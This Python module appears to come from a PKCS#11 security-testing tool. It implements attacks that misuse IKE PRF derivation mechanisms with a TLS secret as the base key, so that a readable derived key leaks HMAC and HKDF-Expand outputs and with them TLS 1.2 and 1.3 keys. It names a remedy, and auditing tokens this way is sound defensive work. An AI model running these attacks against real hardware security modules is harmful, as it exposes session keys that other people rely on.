"""ike-prf: IKE's derivations are HMAC under the base key of what the caller says, and prf+ is HKDF-Expand to the byte."""

from collections.abc import Iterable, Sequence
from functools import partial

from keyfence.cryptoki import Mechanism
from keyfence.cryptoki.constants import CKK, CKM
from keyfence.cryptoki.constants.vendor import (
    CKM_NSS_IKE1_APP_B_PRF_DERIVE,
    CKM_NSS_IKE1_PRF_DERIVE,
    CKM_NSS_IKE_PRF_DERIVE,
    CKM_NSS_IKE_PRF_PLUS_DERIVE,
)
from keyfence.cryptoki.params import Ike1ExtendedDerive, Ike1PrfDerive, Ike2PrfPlusDerive, IkePrfDerive
from keyfence.cryptoki.values import Template
from keyfence.model import Readable

from .base import Attack, Bench, Technique
from .oracle import OracleAttack, Way, read_derived, readable_templates
from .prefix_growth import Asked, DerivedStreamAttack
from .targets import rests_on_hmac
from .victim import Kind, Victim

_COOKIE = 8
"""Bytes of an ISAKMP cookie (RFC 2408 §3.1); fewer where the string leaves no room, for there is always a g^xy."""


class IkePrf(Technique):
    id = "ike-prf"
    title = "IKE's PRFs under a TLS secret"
    summary = (
        "The derivations of IKE are HMAC with the base key as key and nonces, cookies and numbers of the caller's as data: "
        "CKM_IKE_PRF_DERIVE gives HMAC of any string, and CKM_IKE2_PRF_PLUS_DERIVE is HKDF-Expand exactly. A readable derived "
        "key therefore gives TLS 1.2's and TLS 1.3's keys away. Modules also have these under numbers of their own."
    )
    section = "PKCS#11 3.2 §6.64 (IKE mechanisms)"
    references = ("RFC 7296 §2.13", "RFC 2409 §5 and appendix B", "RFC 5246 §5", "RFC 5869 §2.3")
    remedy = "A TLS secret is no base key for IKE: CKA_ALLOWED_MECHANISMS on every secret of TLS, and honoured."
    kinds = frozenset({Kind.TLS12, Kind.TLS13, Kind.WTLS, Kind.SEPARATED})

    def attacks(self, victim: Victim) -> Iterable[Attack]:
        if not rests_on_hmac(victim):
            return
        for prf in (CKM.IKE_PRF_DERIVE, CKM_NSS_IKE_PRF_DERIVE):
            yield NoncePrfAttack(victim, int(prf))
        for prf in (CKM.IKE1_PRF_DERIVE, CKM_NSS_IKE1_PRF_DERIVE):
            yield CookiePrfAttack(victim, int(prf))
        for prf in (CKM.IKE1_EXTENDED_DERIVE, CKM_NSS_IKE1_APP_B_PRF_DERIVE):
            yield AppendixBAttack(victim, int(prf))
        if victim.kind in (Kind.TLS13, Kind.SEPARATED):
            for prf in (CKM.IKE2_PRF_PLUS_DERIVE, CKM_NSS_IKE_PRF_PLUS_DERIVE):
                yield PrfPlusAttack(victim, int(prf))


class _IkeAttack(OracleAttack):
    """A readable key of one IKE derivation."""

    sink = Readable()

    def ways(self, bench: Bench) -> Sequence[Way]:
        return [
            Way(f"C_DeriveKey({self.name}, {self.what}, {text})", partial(self.ask, bench, template))
            for text, template in readable_templates(self.asks_for)
        ]

    what = ""
    """The parameter, for a reader."""

    @property
    def asks_for(self) -> int:
        """Bytes to ask for."""
        return self.target.prf_hash.digest_size

    @property
    def prf(self) -> int:
        """prfMechanism: HMAC with the victim's hash."""
        return int(self.target.prf_hash.ckm_hmac)

    def ask(self, bench: Bench, template: Template, secret: int, data: bytes) -> bytes:
        raise NotImplementedError


class NoncePrfAttack(_IkeAttack):
    """prf(base, Ni | Nr), SKEYID from a pre-shared key: any string, cut in two."""

    what = "Ni | Nr"

    def ask(self, bench: Bench, template: Template, secret: int, data: bytes) -> bytes:
        half = len(data) // 2
        parameters = IkePrfDerive(self.prf, data_as_key=False, rekey=False, ni=data[:half], nr=data[half:])
        return read_derived(bench, Mechanism(self.mechanism, parameters), secret, template)


class CookiePrfAttack(_IkeAttack):
    """prf(base, g^xy | CKYi | CKYr | number): g^xy is a key the caller imports, so all of the string is the caller's."""

    what = "g^xy | CKYi | CKYr | number"

    def ask(self, bench: Bench, template: Template, secret: int, data: bytes) -> bytes:
        cookie = min(_COOKIE, (len(data) - 2) // 2)
        end, number = len(data) - 1, data[-1]
        cky_i, cky_r = data[end - 2 * cookie : end - cookie], data[end - cookie : end]
        with bench.session.scope():
            imported = bench.import_key(CKK.GENERIC_SECRET, data[: end - 2 * cookie], derive=True)
            mechanism = Mechanism(self.mechanism, Ike1PrfDerive(self.prf, imported, cky_i, cky_r, number))
            return read_derived(bench, mechanism, secret, template)


class AppendixBAttack(_IkeAttack):
    """K1 = prf(base, extra), then prf of K1 and on. Asked for more than one digest, or the base key itself is cut short."""

    what = "extra data, longer than the digest"

    @property
    def asks_for(self) -> int:
        return 2 * self.target.prf_hash.digest_size

    def ask(self, bench: Bench, template: Template, secret: int, data: bytes) -> bytes:
        mechanism = Mechanism(self.mechanism, Ike1ExtendedDerive(self.prf, data))
        return read_derived(bench, mechanism, secret, template)


class PrfPlusAttack(DerivedStreamAttack):
    """prf+ counts from one in a byte behind the seed, as HKDF-Expand does behind its info. TLS 1.2's PRF has no counter."""

    key = "client write key"

    @property
    def foreign(self) -> bool:
        return self.victim.kind is Kind.SEPARATED

    def asked(self) -> Sequence[Asked]:
        parameters = Ike2PrfPlusDerive(int(self.target.prf_hash.ckm_hmac), self.target.input)
        return [Asked(f"C_DeriveKey({self.name}, seed = HkdfLabel", Mechanism(self.mechanism, parameters))]
